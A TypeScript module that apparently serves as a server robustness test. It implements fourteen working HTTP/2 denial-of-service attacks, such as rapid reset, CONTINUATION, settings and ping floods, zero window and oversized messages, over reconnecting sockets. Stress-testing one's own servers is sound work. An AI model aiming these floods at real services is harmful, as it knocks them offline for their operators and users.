// Abuse of the port that speaks HTTP/2: some connections write the same kind of hostile bytes again and again, and are opened
// anew when the server has closed them.
import { connect, type Socket } from 'node:net';
import type { Endpoint } from './endpoint.js';
import { grpcMessage } from './grpc-message.js';
import { FLAG, FRAME, frame, headerText, PREFACE, uint32 } from './http2-frame.js';

const CONNECTIONS = 8;
/** Between two writes of one connection. */
const WRITE_MS = 10;
/** Frames of one write. */
const FRAMES = 200;
const NO_BYTES = Buffer.alloc(0);

/** One kind of abuse. */
export interface Http2Attack {
  readonly name: string;
  /** First bytes of a connection; the preface and empty settings when left out. */
  readonly begin?: Buffer;
  /** What is written then. @param n - 0, 1, … on each connection */
  readonly next: (n: number) => Buffer;
}

const SETTINGS = frame(FRAME.settings, 0, 0, NO_BYTES);
const HEAD = Buffer.from([
  ...[0x83, 0x86, 0x04, ...headerText('/Request/request')],
  ...[0x41, ...headerText('127.0.0.1'), 0x5f, ...headerText('application/grpc')],
]);
const headers = (streamId: number) => frame(FRAME.headers, FLAG.endHeaders, streamId, HEAD);
const times = (make: (index: number) => Buffer) => Buffer.concat(Array.from({ length: FRAMES }, (_, i) => make(i)));
const always = (bytes: Buffer) => () => bytes;
/** Streams that begin, ids going on from one write to the next: made once, then only the ids are written anew. */
const perStream = (...units: readonly Buffer[]): ((n: number) => Buffer) => {
  const unit = Buffer.concat(units);
  const all = times(() => unit);
  return (n) => {
    for (let i = 0; i < FRAMES; i++) {
      let at = i * unit.length;
      for (const { length } of units) {
        all.writeUInt32BE(2 * (n * FRAMES + i) + 1, at + 5);
        at += length;
      }
    }
    return Buffer.from(all);
  };
};
const greeting = Buffer.concat([PREFACE, SETTINGS]);
const withStream = Buffer.concat([greeting, headers(1)]);
const ZERO_WINDOW = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
const QUERY = grpcMessage('ServerCheckRequest', {});
const GIANT = Buffer.concat([Buffer.from([0, 0, 0x90, 0, 0]), Buffer.alloc(16_000)]);

/** Every kind. */
export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  { name: 'rapid reset', next: perStream(headers(1), frame(FRAME.reset, 0, 1, uint32(8))) },
  {
    name: 'header flood',
    next: perStream(frame(FRAME.headers, FLAG.endHeaders, 1, Buffer.alloc(4000, 0x84))),
  },
  {
    name: 'endless continuation',
    begin: Buffer.concat([greeting, frame(FRAME.headers, 0, 1, HEAD)]),
    next: always(times(() => frame(FRAME.continuation, 0, 1, NO_BYTES))),
  },
  { name: 'settings flood', next: always(times(() => SETTINGS)) },
  { name: 'ping flood', next: always(times(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8)))) },
  { name: 'priority flood', next: always(times(() => frame(FRAME.priority, 0, 3, Buffer.alloc(5)))) },
  { name: 'window flood', next: always(times(() => frame(FRAME.window, 0, 0, uint32(1)))) },
  { name: '1-byte data', begin: withStream, next: always(times(() => frame(FRAME.data, 0, 1, Buffer.alloc(1)))) },
  { name: 'half-open streams', next: perStream(headers(1)) },
  {
    name: 'zero window',
    begin: Buffer.concat([PREFACE, ZERO_WINDOW]),
    next: perStream(headers(1), frame(FRAME.data, FLAG.endStream, 1, QUERY)),
  },
  { name: 'giant messages', next: (n) => Buffer.concat([headers(2 * n + 1), frame(FRAME.data, 0, 2 * n + 1, GIANT)]) },
  {
    name: 'compressed messages',
    next: perStream(headers(1), frame(FRAME.data, FLAG.endStream, 1, Buffer.from([1, 0, 0, 0, 0]))),
  },
  { name: 'garbage', begin: PREFACE, next: always(Buffer.alloc(4000, 0xff)) },
  { name: 'TLS hello', begin: Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]), next: always(Buffer.alloc(500)) },
];

/** An attack under way. */
export class Http2AttackRun {
  readonly #endpoint: Endpoint;
  readonly #attack: Http2Attack;
  readonly #sockets = new Set<Socket>();
  #over = false;
  /** Connections that the server has closed. */
  closed = 0;

  constructor(endpoint: Endpoint, attack: Http2Attack) {
    this.#endpoint = endpoint;
    this.#attack = attack;
    for (let i = 0; i < CONNECTIONS; i++) this.#open();
  }

  /** Ends the attack. */
  stop(): void {
    this.#over = true;
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(): void {
    if (this.#over) return;
    const { begin = greeting, next } = this.#attack;
    const socket = connect({ host: this.#endpoint.host, port: this.#endpoint.port });
    this.#sockets.add(socket);
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(begin);
    let writes = 0;
    const timer = setInterval(() => {
      // Who does not read is not written to without end by this side either.
      if (socket.writableLength === 0) socket.write(next(writes++));
    }, WRITE_MS);
    socket.on('close', () => {
      clearInterval(timer);
      this.#sockets.delete(socket);
      if (this.#over) return;
      this.closed++;
      setTimeout(() => this.#open(), WRITE_MS);
    });
  }
}
